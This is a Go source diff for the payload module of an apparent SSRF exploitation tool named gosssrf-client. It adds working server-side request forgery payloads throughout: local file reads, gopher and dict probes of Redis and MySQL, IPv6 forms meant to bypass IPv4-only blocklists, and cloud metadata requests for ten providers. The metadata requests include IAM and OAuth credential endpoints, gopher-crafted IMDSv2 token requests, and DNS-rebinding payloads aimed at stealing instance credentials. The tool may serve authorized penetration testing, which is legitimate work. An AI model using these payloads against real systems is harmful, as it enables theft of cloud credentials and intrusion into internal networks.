@@ -3,9 +3,17 @@ package payloads
 import (
 	"bufio"
 	"fmt"
+	"io"
+	"log/slog"
+	"net"
+	"net/url"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
+
+	"gosssrf-client/dict"
+	"gosssrf-client/rebind"
 )
 
 // Payload payload结构
@@ -13,51 +21,94 @@ type Payload struct {
 	Value    string
 	Type     string
 	Keywords []string
+	Bypass   string // 检测到WAF拦截后自动尝试的绕过技术（内置字典或编码器），常规payload为空
+}
+
+// IPSource 按需生成目标IP的来源（例如内网网段）
+type IPSource interface {
+	Len() int
+	Each(fn func(ip string) bool)
+}
+
+// defaultPorts 默认高危端口
+var defaultPorts = []int{
+	6379, 3306, 5432, 27017, 9200, 11211, 5984, 2375,
+	8086, 9000, 5000, 8080, 8888, 80, 443, 22, 21, 3389, 445,
+}
+
+// defaultTargetIPs 未指定内网目标时扫描的本机地址（含IPv6回环和IPv4映射地址，绕过只校验IPv4的过滤）
+var defaultTargetIPs = []string{"127.0.0.1", "localhost", "0.0.0.0", "::1", "::ffff:127.0.0.1"}
+
+// URLHost 返回IP在URL中的主机部分：IPv6地址加方括号，区域标识中的 % 编码为 %25
+func URLHost(ip string) string {
+	if !strings.Contains(ip, ":") {
+		return ip
+	}
+	return "[" + strings.Replace(ip, "%", "%25", 1) + "]"
 }
 
 // GetPortScanPayloads 获取端口扫描payload
-// internalIPs: 要扫描的内网IP列表，如果为空则只扫描127.0.0.1
+// internalIPs: 要扫描的内网IP，如果为空则只扫描127.0.0.1
 // customPorts: 自定义端口列表，如果为空则使用默认高危端口
-func GetPortScanPayloads(internalIPs []string, customPorts []int) []Payload {
+func GetPortScanPayloads(internalIPs IPSource, customPorts []int) []Payload {
 	var payloads []Payload
+	EachPortScanPayload(internalIPs, customPorts, func(p Payload) bool {
+		payloads = append(payloads, p)
+		return true
+	})
+	return payloads
+}
 
+// EachPortScanPayload 逐个生成端口扫描payload，fn 返回 false 时停止
+// 大网段扫描时使用，避免一次性生成全部payload
+func EachPortScanPayload(internalIPs IPSource, customPorts []int, fn func(Payload) bool) {
 	// 决定要扫描的端口列表
-	var portsToScan []int
+	portsToScan := defaultPorts
 	if len(customPorts) > 0 {
 		portsToScan = customPorts
-	} else {
-		// 默认高危端口
-		portsToScan = []int{
-			6379, 3306, 5432, 27017, 9200, 11211, 5984, 2375,
-			8086, 9000, 5000, 8080, 8888, 80, 443, 22, 21, 3389, 445,
-		}
 	}
 
-	// 决定要扫描的IP列表
-	var targetIPs []string
-	if len(internalIPs) > 0 {
-		targetIPs = internalIPs
-	} else {
-		targetIPs = []string{"127.0.0.1", "localhost", "0.0.0.0"}
-	}
-
-	// 生成HTTP协议的端口扫描payload
-	for _, ip := range targetIPs {
+	// 生成单个IP的HTTP协议端口扫描payload
+	emit := func(ip string) bool {
 		for _, port := range portsToScan {
-			payloads = append(payloads, Payload{
-				Value:    fmt.Sprintf("http://%s:%d", ip, port),
+			if !fn(Payload{
+				Value:    "http://" + URLHost(ip) + ":" + strconv.Itoa(port),
 				Type:     "端口扫描",
 				Keywords: getServiceKeywordsByPort(port),
-			})
+			}) {
+				return false
+			}
 		}
+		return true
 	}
 
-	return payloads
+	// 决定要扫描的IP列表
+	if internalIPs != nil && internalIPs.Len() > 0 {
+		internalIPs.Each(emit)
+		return
+	}
+	for _, ip := range defaultTargetIPs {
+		if !emit(ip) {
+			return
+		}
+	}
+}
+
+// PortScanPayloadCount 返回 EachPortScanPayload 生成的payload数量
+func PortScanPayloadCount(internalIPs IPSource, customPorts []int) int {
+	ports := len(defaultPorts)
+	if len(customPorts) > 0 {
+		ports = len(customPorts)
+	}
+	if internalIPs != nil && internalIPs.Len() > 0 {
+		return internalIPs.Len() * ports
+	}
+	return len(defaultTargetIPs) * ports
 }
 
 // GetHighRiskPayloads 获取高危协议和文件读取payload（默认扫描）
 func GetHighRiskPayloads() []Payload {
-	return []Payload{
+	return append([]Payload{
 		// 高危文件读取
 		{
 			Value:    "file:///etc/passwd",
@@ -102,22 +153,80 @@ func GetHighRiskPayloads() []Payload {
 			Keywords: []string{"redis_version", "tcp_port"},
 		},
 		{
-			Value:    "gopher://127.0.0.1:3306/_GET",
+			Value:    "dict://127.0.0.1:3306/",
 			Type:     "协议探测",
 			Keywords: []string{"mysql", "MariaDB"},
 		},
+
+		// IPv6回环、IPv4映射和链路本地地址（绕过只校验IPv4的黑名单）
 		{
-			Value:    "dict://127.0.0.1:3306/",
+			Value:    "dict://[::1]:6379/info",
 			Type:     "协议探测",
-			Keywords: []string{"mysql", "MariaDB"},
+			Keywords: []string{"redis_version", "tcp_port", "role:"},
 		},
-	}
+		{
+			Value:    "gopher://[::ffff:127.0.0.1]:6379/_INFO",
+			Type:     "协议探测",
+			Keywords: []string{"redis_version", "tcp_port"},
+		},
+		{
+			Value: "http://[::1]/",
+			Type:  "内网探测",
+		},
+		{
+			Value: "http://[::]/",
+			Type:  "内网探测",
+		},
+		{
+			Value: "http://[::ffff:127.0.0.1]/",
+			Type:  "内网探测",
+		},
+		{
+			Value: "http://[0:0:0:0:0:ffff:7f00:1]/",
+			Type:  "内网探测",
+		},
+		{
+			Value:    "http://[::ffff:169.254.169.254]/latest/meta-data/",
+			Type:     "云元数据",
+			Keywords: []string{"ami-id", "instance-id", "security-credentials"},
+		},
+		{
+			Value:    "http://[fe80::a9fe:a9fe]/latest/meta-data/",
+			Type:     "云元数据",
+			Keywords: []string{"ami-id", "instance-id", "security-credentials"},
+		},
+		{
+			// AWS Nitro实例的IPv6元数据地址
+			Value:    "http://[fd00:ec2::254]/latest/meta-data/",
+			Type:     "云元数据",
+			Keywords: []string{"ami-id", "instance-id", "security-credentials"},
+		},
+	}, getGopherProbePayloads()...)
 }
 
-// GetCloudMetadataPayloads 获取云服务元数据payload（默认扫描）
-func GetCloudMetadataPayloads() []Payload {
-	return []Payload{
-		// AWS 元数据
+// 云厂商名称（-cloud参数）
+const (
+	CloudAWS          = "aws"
+	CloudGCP          = "gcp"
+	CloudAzure        = "azure"
+	CloudAliyun       = "aliyun"
+	CloudDigitalOcean = "digitalocean"
+	CloudOracle       = "oracle"
+	CloudOpenStack    = "openstack"
+	CloudTencent      = "tencent"
+	CloudHuawei       = "huawei"
+	CloudHetzner      = "hetzner"
+)
+
+// CloudProviders 支持的云厂商（按扫描顺序）
+var CloudProviders = []string{
+	CloudAWS, CloudGCP, CloudAliyun, CloudAzure, CloudDigitalOcean,
+	CloudOracle, CloudOpenStack, CloudTencent, CloudHuawei, CloudHetzner,
+}
+
+// cloudMetadataPayloads 各云厂商的元数据payload
+var cloudMetadataPayloads = map[string][]Payload{
+	CloudAWS: {
 		{
 			Value:    "http://169.254.169.254/latest/meta-data/",
 			Type:     "云元数据",
@@ -133,8 +242,8 @@ func GetCloudMetadataPayloads() []Payload {
 			Type:     "云元数据",
 			Keywords: []string{"user-data", "script"},
 		},
-
-		// Google Cloud 元数据
+	},
+	CloudGCP: {
 		{
 			Value:    "http://metadata.google.internal/computeMetadata/v1/",
 			Type:     "云元数据",
@@ -145,8 +254,15 @@ func GetCloudMetadataPayloads() []Payload {
 			Type:     "云元数据",
 			Keywords: []string{"access_token", "token_type"},
 		},
-
-		// 阿里云元数据
+	},
+	CloudAzure: {
+		{
+			Value:    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
+			Type:     "云元数据",
+			Keywords: []string{"compute", "network", "vmId"},
+		},
+	},
+	CloudAliyun: {
 		{
 			Value:    "http://100.100.100.200/latest/meta-data/",
 			Type:     "云元数据",
@@ -157,16 +273,265 @@ func GetCloudMetadataPayloads() []Payload {
 			Type:     "云元数据",
 			Keywords: []string{"AccessKeyId", "AccessKeySecret"},
 		},
+	},
+	CloudDigitalOcean: {
+		{
+			Value:    "http://169.254.169.254/metadata/v1.json",
+			Type:     "云元数据",
+			Keywords: []string{"droplet_id", "vendor_data"},
+		},
+		{
+			Value:    "http://169.254.169.254/metadata/v1/user-data",
+			Type:     "云元数据",
+			Keywords: []string{"#cloud-config", "#!/bin/"},
+		},
+	},
+	CloudOracle: {
+		{
+			// v1接口不需要 Authorization: Bearer Oracle 请求头
+			Value:    "http://169.254.169.254/opc/v1/instance/",
+			Type:     "云元数据",
+			Keywords: []string{"availabilityDomain", "compartmentId", "ocid1."},
+		},
+		{
+			Value:    "http://169.254.169.254/opc/v1/identity/cert.pem",
+			Type:     "云元数据",
+			Keywords: []string{"BEGIN CERTIFICATE"},
+		},
+	},
+	CloudOpenStack: {
+		{
+			Value:    "http://169.254.169.254/openstack/latest/meta_data.json",
+			Type:     "云元数据",
+			Keywords: []string{"availability_zone", "launch_index", "project_id"},
+		},
+		{
+			Value:    "http://169.254.169.254/openstack/latest/user_data",
+			Type:     "云元数据",
+			Keywords: []string{"#cloud-config", "#!/bin/"},
+		},
+	},
+	CloudTencent: {
+		{
+			Value:    "http://metadata.tencentyun.com/latest/meta-data/",
+			Type:     "云元数据",
+			Keywords: []string{"instance-id", "placement", "uuid"},
+		},
+		{
+			Value:    "http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/",
+			Type:     "云元数据",
+			Keywords: []string{"TmpSecretId", "TmpSecretKey", "Token"},
+		},
+	},
+	CloudHuawei: {
+		{
+			Value:    "http://169.254.169.254/openstack/latest/meta_data.json",
+			Type:     "云元数据",
+			Keywords: []string{"availability_zone", "region_id", "project_id"},
+		},
+		{
+			// 临时访问密钥（绑定委托的实例）
+			Value:    "http://169.254.169.254/openstack/latest/securitykey",
+			Type:     "云元数据",
+			Keywords: []string{"securitytoken", "\"access\"", "\"secret\""},
+		},
+	},
+	CloudHetzner: {
+		{
+			Value:    "http://169.254.169.254/hetzner/v1/metadata",
+			Type:     "云元数据",
+			Keywords: []string{"instance-id", "public-ipv4", "availability-zone"},
+		},
+		{
+			Value:    "http://169.254.169.254/hetzner/v1/metadata/private-networks",
+			Type:     "云元数据",
+			Keywords: []string{"ip:", "mac_address"},
+		},
+	},
+}
 
-		// Azure 元数据
+// GetCloudMetadataPayloads 获取云服务元数据payload（默认扫描）
+// providers 为要测试的云厂商，为空时测试全部；不同厂商相同的元数据地址只发送一次
+func GetCloudMetadataPayloads(providers []string) []Payload {
+	if len(providers) == 0 {
+		providers = CloudProviders
+	}
+
+	var result []Payload
+	index := make(map[string]int)
+	for _, provider := range providers {
+		for _, p := range cloudMetadataPayloads[provider] {
+			// 相同地址合并关键字（例如 OpenStack 和华为云）
+			if i, ok := index[p.Value]; ok {
+				result[i].Keywords = appendUnique(result[i].Keywords, p.Keywords...)
+				continue
+			}
+			index[p.Value] = len(result)
+			p.Keywords = append([]string(nil), p.Keywords...)
+			result = append(result, p)
+		}
+	}
+	return result
+}
+
+// appendUnique 追加不重复的字符串
+func appendUnique(list []string, values ...string) []string {
+	for _, v := range values {
+		found := false
+		for _, existing := range list {
+			if existing == v {
+				found = true
+				break
+			}
+		}
+		if !found {
+			list = append(list, v)
+		}
+	}
+	return list
+}
+
+// IMDSv2 元数据地址和请求头
+const (
+	imdsHost        = "169.254.169.254"
+	imdsTokenPath   = "/latest/api/token"
+	imdsTokenTTL    = "X-aws-ec2-metadata-token-ttl-seconds"
+	imdsTokenHeader = "X-aws-ec2-metadata-token"
+)
+
+// GetIMDSv2TokenPayload 获取通过gopher发送 PUT /latest/api/token 申请IMDSv2会话令牌的payload
+func GetIMDSv2TokenPayload() Payload {
+	return Payload{
+		Value: GopherHTTP(imdsHost, 80, "PUT", imdsTokenPath, [][2]string{{imdsTokenTTL, "21600"}}),
+		Type:  "云元数据",
+	}
+}
+
+// GetIMDSv2MetadataPayloads 获取携带IMDSv2会话令牌读取元数据的payload
+func GetIMDSv2MetadataPayloads(token string) []Payload {
+	headers := [][2]string{{imdsTokenHeader, token}}
+	return []Payload{
 		{
-			Value:    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
+			Value:    GopherHTTP(imdsHost, 80, "GET", "/latest/meta-data/", headers),
 			Type:     "云元数据",
-			Keywords: []string{"compute", "network", "vmId"},
+			Keywords: []string{"ami-id", "instance-id", "security-credentials"},
+		},
+		{
+			Value:    GopherHTTP(imdsHost, 80, "GET", "/latest/meta-data/iam/info", headers),
+			Type:     "云元数据",
+			Keywords: []string{"InstanceProfileArn", "InstanceProfileId"},
 		},
 	}
 }
 
+// CredentialListing 返回实例角色名列表的元数据地址，需要再请求 地址+角色名 才能获取凭据（-exploit-metadata参数）
+type CredentialListing struct {
+	Provider string   // 云厂商
+	URL      string   // 角色列表地址（以 / 结尾）
+	Keywords []string // 角色凭据响应中的关键字
+}
+
+// credentialListings 各云厂商的实例角色列表地址
+var credentialListings = []CredentialListing{
+	{CloudAWS, "http://169.254.169.254/latest/meta-data/iam/security-credentials/", []string{"AccessKeyId", "SecretAccessKey"}},
+	{CloudAliyun, "http://100.100.100.200/latest/meta-data/ram/security-credentials/", []string{"AccessKeyId", "AccessKeySecret"}},
+	{CloudTencent, "http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/", []string{"TmpSecretId", "TmpSecretKey"}},
+}
+
+// GetCredentialListings 获取角色列表地址，providers 为空时返回全部
+func GetCredentialListings(providers []string) []CredentialListing {
+	if len(providers) == 0 {
+		return credentialListings
+	}
+	var result []CredentialListing
+	for _, listing := range credentialListings {
+		for _, p := range providers {
+			if p == listing.Provider {
+				result = append(result, listing)
+				break
+			}
+		}
+	}
+	return result
+}
+
+// Listing 返回请求角色列表的payload
+func (l CredentialListing) Listing() Payload {
+	return Payload{Value: l.URL, Type: "云元数据"}
+}
+
+// Role 返回请求指定角色凭据的payload
+func (l CredentialListing) Role(role string) Payload {
+	return Payload{Value: l.URL + url.PathEscape(role), Type: "云元数据", Keywords: l.Keywords}
+}
+
+// imdsCredentialsPath IMDSv2 实例角色列表路径
+const imdsCredentialsPath = "/latest/meta-data/iam/security-credentials/"
+
+// GetIMDSv2CredentialListing 获取携带IMDSv2会话令牌请求角色列表的payload
+func GetIMDSv2CredentialListing(token string) Payload {
+	return Payload{
+		Value: GopherHTTP(imdsHost, 80, "GET", imdsCredentialsPath, [][2]string{{imdsTokenHeader, token}}),
+		Type:  "云元数据",
+	}
+}
+
+// GetIMDSv2CredentialPayload 获取携带IMDSv2会话令牌请求指定角色凭据的payload
+func GetIMDSv2CredentialPayload(token, role string) Payload {
+	return Payload{
+		Value:    GopherHTTP(imdsHost, 80, "GET", imdsCredentialsPath+url.PathEscape(role), [][2]string{{imdsTokenHeader, token}}),
+		Type:     "云元数据",
+		Keywords: []string{"AccessKeyId", "SecretAccessKey"},
+	}
+}
+
+// CloudRequest 需要特定请求头或请求方式的云元数据请求，普通的 http:// payload 无法访问，通过gopher发送（payloads gen cloud）
+type CloudRequest struct {
+	Provider string      // 云厂商
+	Method   string      // 请求方式
+	Host     string      // 元数据服务地址
+	Path     string      // 请求路径（含查询参数）
+	Headers  [][2]string // 必需的请求头
+	Keywords []string    // 响应中的关键字
+}
+
+// cloudRequests 各云厂商需要请求头的元数据接口
+var cloudRequests = []CloudRequest{
+	{CloudAWS, "PUT", imdsHost, imdsTokenPath, [][2]string{{imdsTokenTTL, "21600"}}, nil},
+	{CloudGCP, "GET", "metadata.google.internal", "/computeMetadata/v1/instance/service-accounts/default/token", [][2]string{{"Metadata-Flavor", "Google"}}, []string{"access_token", "token_type"}},
+	{CloudGCP, "GET", "metadata.google.internal", "/computeMetadata/v1/project/project-id", [][2]string{{"Metadata-Flavor", "Google"}}, nil},
+	{CloudAzure, "GET", imdsHost, "/metadata/instance?api-version=2021-02-01", [][2]string{{"Metadata", "true"}}, []string{"compute", "network", "vmId"}},
+	{CloudAzure, "GET", imdsHost, "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", [][2]string{{"Metadata", "true"}}, []string{"access_token", "expires_on"}},
+	{CloudAliyun, "PUT", "100.100.100.200", "/latest/api/token", [][2]string{{"X-aliyun-ecs-metadata-token-ttl-seconds", "21600"}}, nil},
+	{CloudOracle, "GET", imdsHost, "/opc/v2/instance/", [][2]string{{"Authorization", "Bearer Oracle"}}, []string{"availabilityDomain", "compartmentId", "ocid1."}},
+}
+
+// GetCloudRequests 获取需要请求头的云元数据请求，providers 为空时返回全部
+func GetCloudRequests(providers []string) []CloudRequest {
+	if len(providers) == 0 {
+		return cloudRequests
+	}
+	var result []CloudRequest
+	for _, r := range cloudRequests {
+		for _, p := range providers {
+			if p == r.Provider {
+				result = append(result, r)
+				break
+			}
+		}
+	}
+	return result
+}
+
+// Payload 返回发送该请求的gopher payload
+func (r CloudRequest) Payload() Payload {
+	return Payload{
+		Value:    GopherHTTP(r.Host, 80, r.Method, r.Path, r.Headers),
+		Type:     "云元数据",
+		Keywords: r.Keywords,
+	}
+}
+
 // GetOOBPayloads 获取OOB测试payload
 func GetOOBPayloads(oobServer string) []Payload {
 	if oobServer == "" {
@@ -187,17 +552,52 @@ func GetOOBPayloads(oobServer string) []Payload {
 	}
 }
 
-// GetAllDictPayloads 从dict目录加载所有字典文件的payload
+// rebindTargets DNS重绑定后访问的内网地址、路径及响应特征
+var rebindTargets = []struct {
+	ip       string
+	path     string
+	keywords []string
+}{
+	{"127.0.0.1", "/", []string{"<html", "Server:", "redis_version"}},
+	{"169.254.169.254", "/latest/meta-data/", []string{"ami-id", "instance-id", "security-credentials"}},
+	{"169.254.169.254", "/latest/meta-data/iam/security-credentials/", []string{"AccessKeyId", "SecretAccessKey"}},
+}
+
+// GetRebindPayloads 获取DNS重绑定payload
+// 域名首次解析为 publicIP（通过目标的白名单校验），之后解析为内网地址
+// unique 为 true 时为每个payload生成带随机前缀的新域名（内置DNS服务），避免解析结果被缓存
+func GetRebindPayloads(domain, publicIP string, unique bool) []Payload {
+	var payloads []Payload
+	for _, t := range rebindTargets {
+		nonce := ""
+		if unique {
+			nonce = rebind.NewNonce()
+		}
+		host, err := rebind.Hostname(net.ParseIP(publicIP), net.ParseIP(t.ip), domain, nonce)
+		if err != nil {
+			continue
+		}
+		payloads = append(payloads, Payload{
+			Value:    "http://" + host + t.path,
+			Type:     "DNS重绑定",
+			Keywords: t.keywords,
+		})
+	}
+	return payloads
+}
+
+// GetAllDictPayloads 加载所有内置字典文件的payload
+// 字典已嵌入程序，工作目录或程序所在目录下存在同名的 dict/*.txt 时优先使用本地文件
 func GetAllDictPayloads() []Payload {
 	var allPayloads []Payload
 
-	// dict目录下的所有字典文件
+	// 内置字典文件
 	dictFiles := []string{
-		"dict/bypass_techniques.txt",
-		"dict/cloud_metadata.txt",
-		"dict/file_read.txt",
-		"dict/protocol_bypass.txt",
-		"dict/internal_ip.txt",
+		"bypass_techniques.txt",
+		"cloud_metadata.txt",
+		"file_read.txt",
+		"protocol_bypass.txt",
+		"internal_ip.txt",
 	}
 
 	// 逐个加载字典文件
@@ -205,7 +605,7 @@ func GetAllDictPayloads() []Payload {
 		payloads, err := loadDictFile(dictFile)
 		if err != nil {
 			// 忽略加载失败的文件，继续加载其他文件
-			fmt.Printf("[*] 加载字典文件失败 %s: %v\n", dictFile, err)
+			slog.Warn(fmt.Sprintf("加载字典文件失败 %s: %v", dictFile, err))
 			continue
 		}
 		allPayloads = append(allPayloads, payloads...)
@@ -214,9 +614,31 @@ func GetAllDictPayloads() []Payload {
 	return allPayloads
 }
 
-// loadDictFile 从单个字典文件加载payload
-func loadDictFile(filePath string) ([]Payload, error) {
-	file, err := os.Open(filePath)
+// openDictFile 打开字典文件：依次查找工作目录、程序所在目录下的 dict/ 目录，都不存在时使用内置字典
+func openDictFile(name string) (io.ReadCloser, error) {
+	if path := localDictFile(name); path != "" {
+		return os.Open(path)
+	}
+	return dict.Files.Open(name)
+}
+
+// localDictFile 返回覆盖内置字典的本地文件路径，不存在时返回空
+func localDictFile(name string) string {
+	candidates := []string{filepath.Join("dict", name)}
+	if exe, err := os.Executable(); err == nil {
+		candidates = append(candidates, filepath.Join(filepath.Dir(exe), "dict", name))
+	}
+	for _, path := range candidates {
+		if info, err := os.Stat(path); err == nil && !info.IsDir() {
+			return path
+		}
+	}
+	return ""
+}
+
+// loadDictFile 加载单个字典文件的payload
+func loadDictFile(name string) ([]Payload, error) {
+	file, err := openDictFile(name)
 	if err != nil {
 		return nil, err
 	}
@@ -226,7 +648,7 @@ func loadDictFile(filePath string) ([]Payload, error) {
 	scanner := bufio.NewScanner(file)
 
 	// 从文件名推断payload类型
-	payloadType := getPayloadTypeFromFileName(filePath)
+	payloadType := getPayloadTypeFromFileName(name)
 
 	for scanner.Scan() {
 		line := strings.TrimSpace(scanner.Text())
@@ -236,12 +658,7 @@ func loadDictFile(filePath string) ([]Payload, error) {
 			continue
 		}
 
-		// 创建payload
-		payloads = append(payloads, Payload{
-			Value:    line,
-			Type:     payloadType,
-			Keywords: getKeywordsByPayload(line),
-		})
+		payloads = append(payloads, ParseDictLine(line, payloadType))
 	}
 
 	if err := scanner.Err(); err != nil {
@@ -251,6 +668,30 @@ func loadDictFile(filePath string) ([]Payload, error) {
 	return payloads, nil
 }
 
+// dictFieldSeparator 字典行中payload、关键字和类型之间的分隔符（两侧带空格，不会与payload中的 | 混淆）
+const dictFieldSeparator = " | "
+
+// ParseDictLine 解析字典文件（内置字典和 -w 自定义字典）中的一行：payload | 关键字1,关键字2 | 类型
+// 关键字和类型可以省略：没有关键字时按payload内容推断，没有类型时使用 defaultType
+func ParseDictLine(line, defaultType string) Payload {
+	fields := strings.SplitN(line, dictFieldSeparator, 3)
+	payload := Payload{Value: strings.TrimSpace(fields[0]), Type: defaultType}
+	if len(fields) > 1 {
+		for _, keyword := range strings.Split(fields[1], ",") {
+			if keyword = strings.TrimSpace(keyword); keyword != "" {
+				payload.Keywords = append(payload.Keywords, keyword)
+			}
+		}
+	}
+	if len(fields) > 2 && strings.TrimSpace(fields[2]) != "" {
+		payload.Type = strings.TrimSpace(fields[2])
+	}
+	if len(payload.Keywords) == 0 {
+		payload.Keywords = getKeywordsByPayload(payload.Value)
+	}
+	return payload
+}
+
 // getPayloadTypeFromFileName 从文件名推断payload类型
 func getPayloadTypeFromFileName(filePath string) string {
 	fileName := filepath.Base(filePath)
@@ -319,6 +760,9 @@ func getServiceKeywordsByPort(port int) []string {
 		9200:  {"cluster_name", "version", "tagline", "elasticsearch"},
 		11211: {"STAT", "version"},
 		2375:  {"Containers", "Images"},
+		6443:  {"gitVersion", "system:anonymous"},
+		10250: {"PodList", "Unauthorized"},
+		10255: {"PodList", "podIP"},
 		80:    {"HTTP/", "Server:", "<html"},
 		443:   {"HTTP/", "Server:", "<html"},
 		8080:  {"HTTP/", "Server:", "<html"},
@@ -330,3 +774,23 @@ func getServiceKeywordsByPort(port int) []string {
 	}
 	return []string{"HTTP/", "Server:"}
 }
+
+// Lookup 查找已保存漏洞对应的内置payload，用于复测时恢复特征关键字（-verify参数）
+// 端口扫描payload按端口恢复服务特征，找不到时返回 false
+func Lookup(value, payloadType string) (Payload, bool) {
+	for _, list := range [][]Payload{GetHighRiskPayloads(), GetCloudMetadataPayloads(nil), GetKubernetesPayloads(), GetDockerPayloads(), GetInfraPayloads()} {
+		for _, p := range list {
+			if p.Value == value {
+				return p, true
+			}
+		}
+	}
+	if payloadType == "端口扫描" {
+		if u, err := url.Parse(value); err == nil {
+			if port, err := strconv.Atoi(u.Port()); err == nil {
+				return Payload{Value: value, Type: payloadType, Keywords: getServiceKeywordsByPort(port)}, true
+			}
+		}
+	}
+	return Payload{}, false
+}